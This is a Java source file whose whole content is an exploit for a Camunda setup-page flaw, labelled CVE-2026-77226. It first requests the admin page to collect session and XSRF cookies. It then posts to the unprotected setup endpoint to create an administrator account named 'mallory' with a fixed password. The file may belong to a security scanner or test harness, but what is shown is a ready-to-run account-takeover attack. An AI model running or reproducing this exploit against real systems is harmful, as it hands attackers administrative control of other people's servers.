package dev.baton.access;

import dev.baton.access.RawConnection.Answer;
import java.util.Map;

/** Makes an administrator through the webapps' setup page, as a browser would (CVE-2026-77226). */
record SetupAttack(RawConnection wire, String engine) {
  static final String USER = "mallory";
  static final String PASSWORD = "a password of mallory";

  private static final String BODY =
      """
      {"profile": {"id": "%s", "firstName": "M", "lastName": "M", "email": "m@mallory.example"},
       "credentials": {"password": "%s"}}
      """
          .formatted(USER, PASSWORD);

  Answer tryIt() {
    Map<String, String> cookies = wire.ask("GET", "/camunda/app/admin/" + engine + "/").cookies();
    return wire.send(
        "POST",
        "/camunda/api/admin/setup/" + engine + "/user/create",
        BODY,
        "Content-Type: application/json",
        "X-XSRF-TOKEN: " + cookies.get("XSRF-TOKEN"),
        "Cookie: JSESSIONID=%s; XSRF-TOKEN=%s"
            .formatted(cookies.get("JSESSIONID"), cookies.get("XSRF-TOKEN")));
  }
}
